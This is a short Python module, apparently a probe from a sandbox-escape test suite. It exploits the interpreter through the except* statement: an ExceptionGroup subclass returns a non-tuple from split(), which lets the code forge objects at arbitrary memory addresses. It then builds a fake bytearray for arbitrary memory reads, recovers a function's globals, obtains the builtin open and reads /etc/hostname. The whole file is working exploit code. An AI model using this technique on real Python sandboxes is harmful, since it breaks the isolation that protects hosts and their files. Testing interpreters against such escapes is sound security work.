"""No app turns a number into an object by what its exception group says of itself."""

CLASS = "interpreter"
BOUNDARY = "both"
NEEDS = ("itertools", "json")


import itertools
import json

kept = []


def at(address):
    """The object at this address: ``except*`` takes what split() returns for a tuple of two, unseen."""

    class Group(ExceptionGroup):
        def split(self, kind):
            return itertools.islice((), address, id(None))

    try:
        raise Group("x", [ValueError()])
    except* KeyError as match:
        kept.append(match)
    return kept[-1]


def word(number):
    return number.to_bytes(8, "little")


def memory(address, size):
    header = word(1000) + word(id(bytearray)) + word(size) + word(size + 1) + word(address) * 2 + word(0) * 2
    kept.append(header)
    return bytes(at(id(header) + 32))


def attack():
    function = json.dumps
    try:
        at(id(function))
    except TypeError:
        return "ABSENT: this Python looks at what split() returns"
    space = at(int.from_bytes(memory(id(function) + 16, 8), "little"))
    builtins = space["__builtins__"]
    opened = builtins["open"] if isinstance(builtins, dict) else builtins.open
    return "ESCAPED: " + opened("/etc/hostname").read(20)
